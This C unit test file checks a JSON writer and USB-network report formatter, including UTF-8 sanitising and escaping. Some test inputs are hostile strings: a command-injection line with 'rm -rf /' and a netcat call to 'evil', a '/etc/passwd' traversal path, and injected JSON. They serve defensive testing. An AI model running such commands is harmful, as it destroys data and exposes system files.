/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The JSON writer and the report formatting: always valid UTF-8 JSON, whatever a device says. */
#include <arpa/inet.h>
#include <dlfcn.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "core/json.h"
#include "usbnet-host/usbnet.h"
#include "../fuzz/json-check.h"

/* ---- allocation failure: this program's realloc fails on request ------------------------ */

static bool fail_realloc;

/* A sanitizer owns the heap through its interceptor, linked into the program (clang) or in
 * its shared runtime (gcc); without one, libc's realloc is the next in line. */
extern void *__interceptor_realloc(void *p, size_t n) __attribute__((weak));
extern void *___interceptor_realloc(void *p, size_t n) __attribute__((weak));

/* Interposed for the whole program. */
void *realloc(void *p, size_t n)
{
	static void *(*next)(void *, size_t);

	if (fail_realloc)
		return NULL;
	if (!next) {
		if (__interceptor_realloc)
			next = __interceptor_realloc;
		else if (___interceptor_realloc)
			next = ___interceptor_realloc;
		else
			next = (void *(*)(void *, size_t))dlsym(RTLD_NEXT, "realloc");
	}
	return next(p, n);
}

/* ---- helpers ---------------------------------------------------------------------------- */

static char *string_json(const char *s)
{
	struct json_writer *w = json_new();

	json_string(w, s);
	return json_finish(w);
}

static void assert_escapes_to(const char *in, const char *expected)
{
	char *out = string_json(in);

	assert_non_null(out);
	assert_string_equal(out, expected);
	assert_true(json_check(out, strlen(out), NULL, 0, NULL));
	free(out);
}

/* ---- structure -------------------------------------------------------------------------- */

static void test_writer_places_commas_and_colons(void **state)
{
	struct json_writer *w = json_new();
	char *out;

	json_begin_object(w);
	json_key(w, "a");
	json_int(w, 1);
	json_key(w, "b");
	json_begin_array(w);
	json_int(w, -2);
	json_begin_object(w);
	json_end_object(w);
	json_begin_array(w);
	json_end_array(w);
	json_string(w, "x");
	json_end_array(w);
	json_key(w, "c");
	json_null(w);
	json_key(w, "d");
	json_bool(w, true);
	json_key(w, "e");
	json_bool(w, false);
	json_key(w, "f");
	json_string(w, NULL);
	json_end_object(w);
	out = json_finish(w);
	assert_string_equal(out,
			    "{\"a\":1,\"b\":[-2,{},[],\"x\"],\"c\":null,\"d\":true,\"e\":false,"
			    "\"f\":null}");
	free(out);
}

static void test_empty_array_and_object(void **state)
{
	struct json_writer *w = json_new();
	char *out;

	json_begin_array(w);
	json_end_array(w);
	out = json_finish(w);
	assert_string_equal(out, "[]");
	free(out);

	w = json_new();
	json_begin_object(w);
	json_end_object(w);
	out = json_finish(w);
	assert_string_equal(out, "{}");
	free(out);
}

static void test_int_extremes(void **state)
{
	struct json_writer *w = json_new();
	char *out;

	json_begin_array(w);
	json_int(w, INT64_MIN);
	json_int(w, INT64_MAX);
	json_int(w, 0);
	json_end_array(w);
	out = json_finish(w);
	assert_string_equal(out, "[-9223372036854775808,9223372036854775807,0]");
	free(out);
}

static void test_fixed_writes_decimals_without_locale(void **state)
{
	struct json_writer *w = json_new();
	char *out;

	json_begin_array(w);
	json_fixed(w, 412, 3);
	json_fixed(w, 1500, 3);
	json_fixed(w, -5, 3);
	json_fixed(w, 7, 0);
	json_fixed(w, INT64_MIN, 3);
	json_end_array(w);
	out = json_finish(w);
	assert_string_equal(out, "[0.412,1.500,-0.005,7,-9223372036854775.808]");
	assert_true(json_check(out, strlen(out), NULL, 0, NULL));
	free(out);
}

static void test_misuse_makes_finish_fail(void **state)
{
	struct json_writer *w;

	w = json_new(); /* a value in an object without a key */
	json_begin_object(w);
	json_int(w, 1);
	json_end_object(w);
	assert_null(json_finish(w));

	w = json_new(); /* left open */
	json_begin_array(w);
	assert_null(json_finish(w));

	w = json_new(); /* closed with the wrong bracket */
	json_begin_array(w);
	json_end_object(w);
	assert_null(json_finish(w));

	w = json_new(); /* a key in an array */
	json_begin_array(w);
	json_key(w, "k");
	json_end_array(w);
	assert_null(json_finish(w));

	w = json_new(); /* a key without a value */
	json_begin_object(w);
	json_key(w, "k");
	json_end_object(w);
	assert_null(json_finish(w));

	w = json_new(); /* two top-level values */
	json_int(w, 1);
	json_int(w, 2);
	assert_null(json_finish(w));

	w = json_new(); /* nothing */
	assert_null(json_finish(w));

	assert_null(json_finish(NULL));
	json_string(NULL, "ignored"); /* no crash on a writer that failed to allocate */
	json_begin_object(NULL);
	json_key(NULL, "k");
}

static void test_nesting_too_deep_fails(void **state)
{
	struct json_writer *w = json_new();

	for (int i = 0; i < 100; i++)
		json_begin_array(w);
	for (int i = 0; i < 100; i++)
		json_end_array(w);
	assert_null(json_finish(w));
}

static void test_allocation_failure_latches_and_finish_returns_null(void **state)
{
	char big[4096];
	struct json_writer *w;

	memset(big, 'a', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	w = json_new();
	assert_non_null(w);
	json_begin_array(w);
	fail_realloc = true;
	json_string(w, big);
	fail_realloc = false;
	/* Later calls that would fit change nothing: the error is latched. */
	json_int(w, 1);
	json_end_array(w);
	assert_null(json_finish(w));
}

static void test_long_output_grows(void **state)
{
	struct json_writer *w = json_new();
	char *out;

	json_begin_array(w);
	for (int i = 0; i < 10000; i++)
		json_string(w, "0123456789");
	json_end_array(w);
	out = json_finish(w);
	assert_non_null(out);
	assert_int_equal(strlen(out), 2 + 10000 * 12 + 9999);
	assert_true(json_check(out, strlen(out), NULL, 0, NULL));
	free(out);
}

/* ---- escaping --------------------------------------------------------------------------- */

static void test_quotes_backslashes_and_controls_are_escaped(void **state)
{
	assert_escapes_to("say \"hi\"", "\"say \\\"hi\\\"\"");
	assert_escapes_to("C:\\dir", "\"C:\\\\dir\"");
	assert_escapes_to("a\nb\tc\rd", "\"a\\u000ab\\u0009c\\u000dd\"");
	assert_escapes_to("\x01\x1f", "\"\\u0001\\u001f\"");
	assert_escapes_to("\x1b[31mred", "\"\\u001b[31mred\"");
	assert_escapes_to("del\x7f", "\"del\\u007f\"");
	assert_escapes_to("", "\"\"");
	assert_escapes_to("/</script>", "\"/</script>\"");
}

static void test_valid_utf8_passes_through(void **state)
{
	assert_escapes_to("Caf\xc3\xa9", "\"Caf\xc3\xa9\"");
	assert_escapes_to("\xe2\x82\xac 5", "\"\xe2\x82\xac 5\"");
	assert_escapes_to("\xf0\x9f\x98\x80", "\"\xf0\x9f\x98\x80\"");
	assert_escapes_to("\xef\xbf\xbf", "\"\xef\xbf\xbf\"");		 /* U+FFFF */
	assert_escapes_to("\xf4\x8f\xbf\xbf", "\"\xf4\x8f\xbf\xbf\""); /* U+10FFFF */
	assert_escapes_to("\xed\x9f\xbf", "\"\xed\x9f\xbf\"");		 /* U+D7FF */
}

static void test_invalid_utf8_becomes_replacement_characters(void **state)
{
	/* Lone continuation bytes and bytes no sequence starts with: one U+FFFD each. */
	assert_escapes_to("\x80", "\"\\ufffd\"");
	assert_escapes_to("a\xbf" "b", "\"a\\ufffdb\"");
	assert_escapes_to("\xfe\xff", "\"\\ufffd\\ufffd\"");
	assert_escapes_to("\xf5\x80\x80\x80", "\"\\ufffd\\ufffd\\ufffd\\ufffd\"");
	/* Overlong forms. */
	assert_escapes_to("\xc0\xaf", "\"\\ufffd\\ufffd\"");
	assert_escapes_to("\xc1\xbf", "\"\\ufffd\\ufffd\"");
	assert_escapes_to("\xe0\x80\xaf", "\"\\ufffd\\ufffd\\ufffd\"");
	assert_escapes_to("\xf0\x80\x80\xaf", "\"\\ufffd\\ufffd\\ufffd\\ufffd\"");
	/* UTF-16 surrogates encoded in UTF-8 (CESU). */
	assert_escapes_to("\xed\xa0\x80", "\"\\ufffd\\ufffd\\ufffd\"");
	assert_escapes_to("\xed\xbf\xbf", "\"\\ufffd\\ufffd\\ufffd\"");
	/* Above U+10FFFF. */
	assert_escapes_to("\xf4\x90\x80\x80", "\"\\ufffd\\ufffd\\ufffd\\ufffd\"");
	/* Truncated sequences: the maximal valid prefix is one U+FFFD. */
	assert_escapes_to("\xe2\x82", "\"\\ufffd\"");
	assert_escapes_to("\xe2\x82x", "\"\\ufffdx\"");
	assert_escapes_to("\xf0\x9f\x98", "\"\\ufffd\"");
	assert_escapes_to("\xf0\x9f\x98\"", "\"\\ufffd\\\"\"");
	assert_escapes_to("\xc3", "\"\\ufffd\"");
	assert_escapes_to("\xc3\xc3\xa9", "\"\\ufffd\xc3\xa9\"");
}

static void test_keys_are_escaped_too(void **state)
{
	struct json_writer *w = json_new();
	char *out;

	json_begin_object(w);
	json_key(w, "k\"\xff");
	json_int(w, 1);
	json_end_object(w);
	out = json_finish(w);
	assert_string_equal(out, "{\"k\\\"\\ufffd\":1}");
	free(out);
}

/* What the checker decodes must be the input, with each bad sequence replaced. */
static void assert_round_trip(const char *in, const char *expected_decoded)
{
	char *out = string_json(in);
	char decoded[1024];
	size_t n = 0;

	assert_non_null(out);
	assert_true(json_check(out, strlen(out), decoded, sizeof(decoded), &n));
	assert_int_equal(n, strlen(expected_decoded));
	assert_memory_equal(decoded, expected_decoded, n);
	free(out);
}

static void test_hostile_strings_round_trip(void **state)
{
	const char *same[] = {
		"$(reboot); rm -rf / `id` | nc evil 1 && echo",
		"../../../../etc/passwd",
		"line1\nline2\r\n\"quoted\"\\",
		"\x1b]0;title\x07\x1b[2J",
		"N\xc3\xb6kia \xe2\x84\xa2 \xf0\x9f\x94\x8c",
		"{\"injected\":true}",
		"\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x7f",
	};
	char longstr[1000];

	for (size_t i = 0; i < sizeof(same) / sizeof(same[0]); i++)
		assert_round_trip(same[i], same[i]);
	assert_round_trip("Fob\xffnail\xed\xa0\x80!", "Fob\xef\xbf\xbdnail\xef\xbf\xbd\xef\xbf\xbd"
						      "\xef\xbf\xbd!");
	memset(longstr, 'A', sizeof(longstr) - 1);
	longstr[sizeof(longstr) - 1] = '\0';
	assert_round_trip(longstr, longstr);
}

/* xorshift: the same "random" bytes on every run. */
static uint32_t rng_state = 2463534242u;

static uint32_t rng(void)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 17;
	rng_state ^= rng_state << 5;
	return rng_state;
}

static void test_every_two_byte_string_gives_valid_json(void **state)
{
	char in[3] = { 0 };

	for (unsigned a = 1; a < 256; a++)
		for (unsigned b = 0; b < 256; b++) {
			char *out;

			in[0] = (char)a;
			in[1] = (char)b;
			out = string_json(in);
			assert_non_null(out);
			if (!json_check(out, strlen(out), NULL, 0, NULL))
				fail_msg("invalid JSON for %02x %02x: %s", a, b, out);
			free(out);
		}
}

static void test_random_bytes_give_valid_json(void **state)
{
	/* Biased towards the bytes UTF-8 decoders get wrong. */
	static const unsigned char interesting[] = { 0x00, 0x22, 0x5c, 0x1f, 0x7f, 0x80, 0xbf,
						     0xc0, 0xc1, 0xc2, 0xdf, 0xe0, 0xed, 0xef,
						     0xf0, 0xf4, 0xf5, 0xff, 0xa0, 0x9f, 0x90 };
	char in[33];

	for (int iter = 0; iter < 200000; iter++) {
		size_t len = rng() % 32;
		char *out;

		for (size_t i = 0; i < len; i++) {
			uint32_t r = rng();

			in[i] = (char)(r & 1 ? interesting[(r >> 1) % sizeof(interesting)]
					     : (r >> 8) & 0xff);
			if (in[i] == 0)
				in[i] = 'z';
		}
		in[len] = '\0';
		out = string_json(in);
		assert_non_null(out);
		assert_true(json_check(out, strlen(out), NULL, 0, NULL));
		free(out);
	}
}

/* ---- reports ---------------------------------------------------------------------------- */

static struct usbnet_report fobnail_report(void)
{
	struct usbnet_report r = {
		.peer = {
			.ifname = "enx020000000001",
			.ifindex = 7,
			.driver = "cdc_eem",
			.protocol = USBNET_PROTO_EEM,
			.vendor_id = 0x1234,
			.product_id = 0x4321,
			.manufacturer = "3mdeb",
			.product = "Fobnail",
			.serial = "0123456789",
			.usb_path = "1-1.4",
			.speed_mbps = 12,
			.mac = "02:00:00:00:00:01",
			.carrier = true,
			.nm_managed = 0,
			.n_addrs = 1,
		},
		.plan = {
			.mode = USBNET_MODE_STATIC,
			.profile = "fobnail",
			.has_host = true,
			.has_peer = true,
			.wait_s = 3,
			.ipv6_off = true,
		},
		.status = {
			.state = USBNET_STATE_CONFIGURED,
			.has_host = true,
			.has_peer = true,
			.rtt_us = 412,
			.ipv6_off = true,
		},
	};

	inet_pton(AF_INET, "169.254.0.8", &r.plan.host.addr);
	r.plan.host.prefix = 16;
	inet_pton(AF_INET, "169.254.0.1", &r.plan.peer);
	r.status.host = r.plan.host;
	r.status.peer = r.plan.peer;
	r.peer.addrs[0] = r.plan.host;
	return r;
}

static const char fobnail_json[] =
	"{\"ifname\":\"enx020000000001\",\"driver\":\"cdc_eem\",\"protocol\":\"eem\","
	"\"vendor_id\":\"1234\",\"product_id\":\"4321\",\"manufacturer\":\"3mdeb\","
	"\"product\":\"Fobnail\",\"serial\":\"0123456789\",\"usb_path\":\"1-1.4\","
	"\"speed_mbps\":12,\"mac\":\"02:00:00:00:00:01\",\"carrier\":true,"
	"\"profile\":\"fobnail\",\"mode\":\"static\",\"nm_managed\":false,"
	"\"host_address\":\"169.254.0.8/16\",\"peer_address\":\"169.254.0.1/16\","
	"\"state\":\"configured\",\"config_peer\":null,\"serves_dhcp\":false,"
	"\"addresses\":[\"169.254.0.8/16\"],\"rtt_ms\":0.412,\"message\":null,"
	"\"binding_warning\":null,\"gateway\":null,\"uplink\":null,\"uplink_auto\":false,\"uplink6\":null,\"nameserver\":null,\"nameserver6\":null,\"dns_forwarder\":null,\"name\":null,\"reach_address\":\"169.254.0.1\",\"dhcp_server\":null,"
	"\"ipv6\":\"off\",\"ipv6_prefix\":null,\"ipv6_sharing\":null,\"ipv6_addresses\":[],"
	"\"waiting_for_carrier\":false}";

static void test_fobnail_report_exact_json(void **state)
{
	struct usbnet_report r = fobnail_report();
	char *out = usbnet_report_to_json(&r);

	assert_non_null(out);
	assert_string_equal(out, fobnail_json);
	assert_true(json_check(out, strlen(out), NULL, 0, NULL));
	free(out);
}

static void test_reports_make_an_array(void **state)
{
	struct usbnet_report r[2] = { fobnail_report(), fobnail_report() };
	char expected[2 * sizeof(fobnail_json) + 8];
	char *out;

	out = usbnet_reports_to_json(NULL, 0);
	assert_string_equal(out, "[]");
	free(out);

	snprintf(expected, sizeof(expected), "[%s,%s]", fobnail_json, fobnail_json);
	out = usbnet_reports_to_json(r, 2);
	assert_string_equal(out, expected);
	free(out);
}

static void test_unconfigured_unknown_peer_has_nulls(void **state)
{
	struct usbnet_report r = { 0 };
	char *out;

	strcpy(r.peer.ifname, "usb0");
	strcpy(r.peer.driver, "cdc_subset");
	r.peer.protocol = USBNET_PROTO_UNKNOWN;
	r.peer.vendor_id = 0x0525;
	r.peer.product_id = 0xa4a2;
	r.peer.nm_managed = -1;
	r.peer.binding = USBNET_BINDING_RNDIS_AS_SUBSET;
	r.status.rtt_us = -1;
	out = usbnet_report_to_json(&r);
	assert_string_equal(
		out, "{\"ifname\":\"usb0\",\"driver\":\"cdc_subset\",\"protocol\":null,"
		     "\"vendor_id\":\"0525\",\"product_id\":\"a4a2\",\"manufacturer\":\"\","
		     "\"product\":\"\",\"serial\":\"\",\"usb_path\":\"\",\"speed_mbps\":null,"
		     "\"mac\":\"\",\"carrier\":false,\"profile\":null,\"mode\":\"ignore\","
		     "\"nm_managed\":null,\"host_address\":null,\"peer_address\":null,"
		     "\"state\":\"unconfigured\",\"config_peer\":null,\"serves_dhcp\":false,"
		     "\"addresses\":[],\"rtt_ms\":null,\"message\":null,"
		     "\"binding_warning\":\"cdc_subset is bound to an RNDIS gadget: no traffic "
		     "will pass; the rndis_host driver must take the device\","
		     "\"gateway\":null,\"uplink\":null,\"uplink_auto\":false,\"uplink6\":null,\"nameserver\":null,\"nameserver6\":null,\"dns_forwarder\":null,\"name\":null,\"reach_address\":null,\"dhcp_server\":null,"
		     "\"ipv6\":\"on\",\"ipv6_prefix\":null,\"ipv6_sharing\":null,\"ipv6_addresses\":[],"
		     "\"waiting_for_carrier\":false}");
	free(out);
}

/* waiting_for_carrier: a recorded peer (configured, degraded, or up --auto's record saying it
 * waits) whose link has no carrier; never a peer that has carrier or is not recorded. */
static void test_waiting_for_carrier(void **state)
{
	static const struct {
		enum usbnet_state st;
		bool carrier;
		const char *message;
		bool waiting;
	} cases[] = {
		{ USBNET_STATE_DEGRADED, false, "the peer did not answer", true },
		{ USBNET_STATE_CONFIGURED, false, "", true },
		{ USBNET_STATE_DEGRADED, true, "the peer did not answer", false },
		{ USBNET_STATE_CONFIGURED, true, "", false },
		{ USBNET_STATE_UNCONFIGURED, false, "", false },
		{ USBNET_STATE_UNCONFIGURED, false,
		  "waiting for carrier (the device has not brought its side up)", true },
		{ USBNET_STATE_FAILED, false, "cannot add the address", false },
		{ USBNET_STATE_VANISHED, false, "", false },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct usbnet_report r = fobnail_report();
		char *out;

		r.status.state = cases[i].st;
		r.peer.carrier = cases[i].carrier;
		snprintf(r.status.message, sizeof(r.status.message), "%s", cases[i].message);
		assert_int_equal(usbnet_report_waiting_for_carrier(&r), cases[i].waiting);
		out = usbnet_report_to_json(&r);
		assert_non_null(out);
		assert_true(json_check(out, strlen(out), NULL, 0, NULL));
		/* the last key, after every other one (the JSON only grows) */
		assert_non_null(strstr(out, cases[i].waiting ? ",\"waiting_for_carrier\":true}"
							      : ",\"waiting_for_carrier\":false}"));
		free(out);
	}
}

static void test_plan_addresses_shown_until_configured(void **state)
{
	struct usbnet_report r = fobnail_report();
	char *out;

	/* Not configured yet: the plan's addresses. */
	memset(&r.status, 0, sizeof(r.status));
	r.status.rtt_us = -1;
	inet_pton(AF_INET, "10.0.0.1", &r.plan.host.addr);
	r.plan.host.prefix = 24;
	out = usbnet_report_to_json(&r);
	assert_non_null(strstr(out, "\"host_address\":\"10.0.0.1/24\","
				    "\"peer_address\":\"169.254.0.1/24\","
				    "\"state\":\"unconfigured\""));
	free(out);

	/* Configured: what the state record says, even when the plan has changed since. */
	r = fobnail_report();
	inet_pton(AF_INET, "10.0.0.1", &r.plan.host.addr);
	r.plan.config_peer[0] = 'x';
	r.status.state = USBNET_STATE_DEGRADED;
	strcpy(r.status.message, "the peer did not answer within 3 s");
	out = usbnet_report_to_json(&r);
	assert_non_null(strstr(out, "\"host_address\":\"169.254.0.8/16\","
				    "\"peer_address\":\"169.254.0.1/16\","
				    "\"state\":\"degraded\",\"config_peer\":\"x\""));
	assert_non_null(strstr(out, "\"message\":\"the peer did not answer within 3 s\""));
	free(out);

	/* A peer without a host address (it leases one): /32. */
	r = fobnail_report();
	memset(&r.status, 0, sizeof(r.status));
	r.plan.mode = USBNET_MODE_DHCP;
	r.plan.has_host = false;
	r.plan.peer_serves_dhcp = true;
	out = usbnet_report_to_json(&r);
	assert_non_null(strstr(out, "\"host_address\":null,\"peer_address\":\"169.254.0.1/32\""));
	assert_non_null(strstr(out, "\"serves_dhcp\":true"));
	free(out);
}

/* uplink6: a gateway peer's IPv6 uplink, only when it is another than its IPv4 uplink (the
 * IPv6 default route elsewhere); null when the same, when IPv6 is not shared, outside gateway
 * mode. The keys before and after it stay where they were. */
static void test_uplink6_only_when_another_interface(void **state)
{
	static const struct {
		const char *uplink, *uplink6, *want;
	} cases[] = {
		{ "eth0", "wg0", "\"uplink\":\"eth0\",\"uplink_auto\":true,\"uplink6\":\"wg0\","
				 "\"nameserver\":null," },
		{ "eth0", "eth0", "\"uplink\":\"eth0\",\"uplink_auto\":true,\"uplink6\":null,"
				  "\"nameserver\":null," },
		{ "eth0", "", "\"uplink\":\"eth0\",\"uplink_auto\":true,\"uplink6\":null," },
		{ "", "wg0", "\"uplink\":null,\"uplink_auto\":false,\"uplink6\":null," },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct usbnet_report r = fobnail_report();
		char *out;

		strcpy(r.status.uplink, cases[i].uplink);
		r.plan.mode = r.status.uplink[0] ? USBNET_MODE_GATEWAY : USBNET_MODE_STATIC;
		r.status.uplink_auto = true;
		strcpy(r.status.uplink6, cases[i].uplink6);
		r.status.has_ipv6_prefix = cases[i].uplink6[0] != '\0';
		r.status.ipv6_off = r.plan.ipv6_off = false;
		out = usbnet_report_to_json(&r);
		assert_non_null(out);
		assert_true(json_check(out, strlen(out), NULL, 0, NULL));
		if (!strstr(out, cases[i].want))
			fail_msg("case %zu: no %s in %s", i, cases[i].want, out);
		assert_string_equal(usbnet_status_uplink6(&r.status),
				    strcmp(cases[i].uplink6, "wg0") == 0 && cases[i].uplink[0]
					? "wg0"
					: "");
		free(out);
	}
}

static void test_hostile_device_strings_give_valid_json(void **state)
{
	struct usbnet_report r = fobnail_report();
	char decoded[4096];
	char *out;

	strcpy(r.peer.manufacturer, "\"},{\"ifname\":\"eth0\"");
	strcpy(r.peer.product, "$(reboot)\n\x1b[2J\xff\xfe");
	/* Fill every byte: no NUL inside the array. */
	memset(r.peer.serial, '\xe2', sizeof(r.peer.serial));
	memset(r.status.message, 'm', sizeof(r.status.message));
	r.peer.n_addrs = 1000; /* a corrupt count must not read past the array */
	out = usbnet_report_to_json(&r);
	assert_non_null(out);
	assert_true(json_check(out, strlen(out), decoded, sizeof(decoded), NULL));
	assert_non_null(strstr(out, "\"manufacturer\":\"\\\"},{\\\"ifname\\\":\\\"eth0\\\"\""));
	assert_non_null(strstr(out, "\"product\":\"$(reboot)\\u000a\\u001b[2J\\ufffd\\ufffd\""));
	free(out);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_writer_places_commas_and_colons),
		cmocka_unit_test(test_empty_array_and_object),
		cmocka_unit_test(test_int_extremes),
		cmocka_unit_test(test_fixed_writes_decimals_without_locale),
		cmocka_unit_test(test_misuse_makes_finish_fail),
		cmocka_unit_test(test_nesting_too_deep_fails),
		cmocka_unit_test(test_allocation_failure_latches_and_finish_returns_null),
		cmocka_unit_test(test_long_output_grows),
		cmocka_unit_test(test_quotes_backslashes_and_controls_are_escaped),
		cmocka_unit_test(test_valid_utf8_passes_through),
		cmocka_unit_test(test_invalid_utf8_becomes_replacement_characters),
		cmocka_unit_test(test_keys_are_escaped_too),
		cmocka_unit_test(test_hostile_strings_round_trip),
		cmocka_unit_test(test_every_two_byte_string_gives_valid_json),
		cmocka_unit_test(test_random_bytes_give_valid_json),
		cmocka_unit_test(test_fobnail_report_exact_json),
		cmocka_unit_test(test_reports_make_an_array),
		cmocka_unit_test(test_unconfigured_unknown_peer_has_nulls),
		cmocka_unit_test(test_waiting_for_carrier),
		cmocka_unit_test(test_plan_addresses_shown_until_configured),
		cmocka_unit_test(test_uplink6_only_when_another_interface),
		cmocka_unit_test(test_hostile_device_strings_give_valid_json),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
